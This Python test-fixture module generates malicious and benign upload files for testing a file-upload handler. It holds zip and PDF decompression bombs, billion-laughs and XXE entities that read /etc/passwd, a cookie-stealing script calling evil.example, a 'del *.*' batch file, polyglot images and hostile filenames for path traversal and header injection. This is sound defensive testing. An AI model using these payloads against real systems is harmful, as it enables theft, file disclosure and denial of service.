"""Files that are up to no good, and good ones beside them, built when they are asked for: none lies in the repository."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence

NAMESPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)


def docx(*paragraphs: str, more: Sequence[tuple[str, str | bytes]] = (), document: str = "") -> bytes:
    """A Word document; `more` are further parts, `document` the whole main part where it shall be another."""
    body = "".join(f"<w:p><w:r><w:t>{paragraph}</w:t></w:r></w:p>" for paragraph in paragraphs)
    whole = document or f'<?xml version="1.0"?><w:document {NAMESPACE}><w:body>{body}</w:body></w:document>'
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (
            ("[Content_Types].xml", TYPES), ("_rels/.rels", RELATIONS), ("word/document.xml", whole), *more,
        ):  # fmt: skip
            archive.writestr(name, content)
    return target.getvalue()


def pdf(text: str = "", *, stream: bytes | None = None, filters: str = "", trailer: str = "") -> bytes:
    """A PDF of one page with a line of text, or with any content stream."""
    content = stream if stream is not None else f"BT /F1 12 Tf 72 700 Td ({text}) Tj ET".encode()
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), filters.encode(), content),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    out, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer<</Root 1 0 R/Size 6%s>>\nstartxref\n%d\n%%%%EOF" % (trailer.encode(), len(out))
    return out + b"xref\n0 6\n0000000000 65535 f \n" + table + end


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf("secret"))))
    writer.encrypt("a password", algorithm="AES-256")
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def endless_pdf() -> bytes:
    """Pages whose tree names itself as a child."""
    return pdf("round").replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")


def png(width: int, height: int, *, more: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + (chunk(b"tEXt", b"Comment\0" + more) if more else b"")
        + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")
    )  # fmt: skip


def archive(**parts: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return target.getvalue()


def nested_archive() -> bytes:
    """A zip of zips of zeros."""
    inner = archive(zeros=b"\0" * 2**20)
    for _ in range(4):
        inner = archive(**{f"part{number}": inner for number in range(10)})
    return inner


def docx_with_entities(subject: str) -> bytes:
    declared = (
        f"<!DOCTYPE d [<!ENTITY x {subject}>]><w:document {NAMESPACE}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p>"
    )
    return docx(document=f'<?xml version="1.0"?>{declared}</w:body></w:document>')


def laughing_docx() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    document = f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]><w:document {NAMESPACE}><w:body>&l9;</w:body></w:document>'
    return docx(document=f'<?xml version="1.0"?>{document}')


def eicar() -> bytes:
    """The signature that every scanner knows, put together here so that none takes this file for it."""
    return "".join(["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE", "!$H+H*"]).encode()


SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
DEEP = f"<w:document {NAMESPACE}><w:body>{'<w:smartTag>' * 20_000}{'</w:smartTag>' * 20_000}</w:body></w:document>"

REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "empty": ("empty.txt", lambda: b""),
    "a program": ("invoice.pdf", lambda: b"MZ\x90\0\x03\0\0\0" + b"\0" * 400),
    "an ELF program": ("readme.txt", lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 400),
    "a zip of zips": ("photos.zip", nested_archive),
    "a zip that is called docx": ("letter.docx", lambda: archive(a=b"x")),
    "a document with macros": ("offer.docx", lambda: docx("hello", more=[("word/vbaProject.bin", b"x")])),
    "text with NUL": ("notes.txt", lambda: b"hello\0world"),
    "a legacy Office file": ("old.doc", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600),
    "a gzip bomb": ("log.txt", lambda: b"\x1f\x8b\x08\0" + zlib.compress(b"\0" * 10**6)),
    "a zip before a PDF": ("a.pdf", lambda: archive(a=b"x") + pdf("hidden")),
    "an invalid UTF-16": ("utf16.txt", lambda: b"\xff\xfe" + b"\x00\xd8" * 50 + b"a\0"),
    "controls": ("terminal.log", lambda: b"\x07\x08\x00\x1b[2J"),
}
"""Not taken at all: the name it comes under, and how it is made."""

FAILED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a docx of 50 MB": ("bomb.docx", lambda: docx("A" * 50_000_000)),
    "a docx of 100 MB in parts": (
        "bomb.docx", lambda: docx("a", more=[(f"word/x{n}.xml", b"0" * 10_000_000) for n in range(10)]),
    ),
    "a docx of 5,000 parts": ("parts.docx", lambda: docx("a", more=[(f"word/p{n}", b"") for n in range(5000)])),
    "a docx 20,000 deep": ("deep.docx", lambda: docx(document=DEEP)),
    "a docx with an external entity": ("x.docx", lambda: docx_with_entities('SYSTEM "file:///etc/passwd"')),
    "a docx with an entity on the net": ("x.docx", lambda: docx_with_entities('SYSTEM "http://evil.example/a"')),
    "a billion laughs": ("x.docx", laughing_docx),
    "a docx that is cut off": ("x.docx", lambda: docx("hello")[:-40]),
    "a PDF of 200 MB": (
        "x.pdf", lambda: pdf(stream=zlib.compress(zlib.compress(b"\0" * 200_000_000)),
                             filters="/Filter[/FlateDecode/FlateDecode]"),
    ),
    "a PDF of 2,000,000 operators": (
        "x.pdf", lambda: pdf(stream=zlib.compress(b"BT (a) Tj ET\n" * 2_000_000), filters="/Filter/FlateDecode"),
    ),
    "an encrypted PDF": ("x.pdf", encrypted_pdf),
    "a PDF that is cut off": ("x.pdf", lambda: pdf("hello")[:30]),
    "a PDF whose pages are a ring": ("ring.pdf", endless_pdf),
    "a GIF that is a script": ("a.js", lambda: b"GIF89a=1;alert(1)//" + b"\0" * 40),
    "a PNG of 50,000 x 50,000": ("x.png", lambda: png(50_000, 50_000)),
    "a PNG of 2 billion": ("x.png", lambda: png(2**31 - 1, 1)),
    "a PNG that is cut off": ("x.png", lambda: png(10, 10)[:12]),
    "HTML that never closes a tag": ("x.html", lambda: b"<html>" + b"<a " * 3_000_000),
}  # fmt: skip
"""Taken and kept as a download; the reading of it comes to nothing, in time."""

CLEAN: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "EICAR": ("eicar.com", eicar, "text/plain"),
    "HTML with a script": ("page.html", lambda: b"<html><body><p>Hello</p>" + SCRIPT + b"</body></html>", "text/html"),
    "HTML called txt": ("page.txt", lambda: b"<!DOCTYPE html><html>" + SCRIPT + b"</html>", "text/html"),
    "SVG with a script": (
        "logo.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "image/svg+xml",
    ),
    "SVG called png": ("logo.png", lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>', "image/svg+xml"),
    "HTML behind a PNG": ("cat.html", lambda: png(4, 4) + b"<html>" + SCRIPT, "image/png"),
    "HTML inside a PNG": ("cat.html", lambda: png(4, 4, more=SCRIPT), "image/png"),
    "a zip behind a PDF": ("a.zip", lambda: pdf("front") + archive(a=b"x"), "application/pdf"),
    "a batch file": ("invoice.pdf.bat", lambda: b"@echo off\r\ndel *.*\r\n", "text/plain"),
    "a million open divs": ("deep.html", lambda: b"<html>" + b"<div>" * 1_000_000, "text/html"),
    "a comment without end": ("open.html", lambda: b"<html><!--" + b"a" * 8_000_000, "text/html"),
    "one line of 9 MB": ("line.txt", lambda: b"a" * 9_000_000, "text/plain"),
    "9 MB of line ends": ("lines.txt", lambda: b"\n" * 9_000_000, "text/plain"),
    "a million headings": ("toc.md", lambda: b"# a\n" * 1_000_000, "text/markdown"),
    "brackets": ("links.md", lambda: b"[" * 200_000, "text/markdown"),
    "UTF-16": ("utf16.txt", lambda: "grüße".encode("utf-16"), "text/plain"),
}  # fmt: skip
"""Taken, as what it is, whatever it is called."""

NAMES = (
    "../../etc/cron.d/x", "..\\..\\windows\\system32\\drivers", "/etc/passwd", "C:\\boot.ini", "a\0b.txt", "con", "CON.txt",
    "nul.log", "com1.pdf", "invoice\u202efdp.exe", "\u202egpj.exe", "x" * 4096, "." * 300, "...", "", " ", "\r\nX-Evil: 1",
    'a"; filename="evil.exe', "a%2f..%2fb", "файл.txt", "日本語" * 100 + ".txt", "a\ud800b", "<script>.html", "-rf", "~/.ssh",
    "file.txt\u200b.exe", "a\n b", "\u0600.txt", "e\u0301.txt", "aux.", "LPT¹.txt", "name.txt:stream", "*?.txt",
)  # fmt: skip
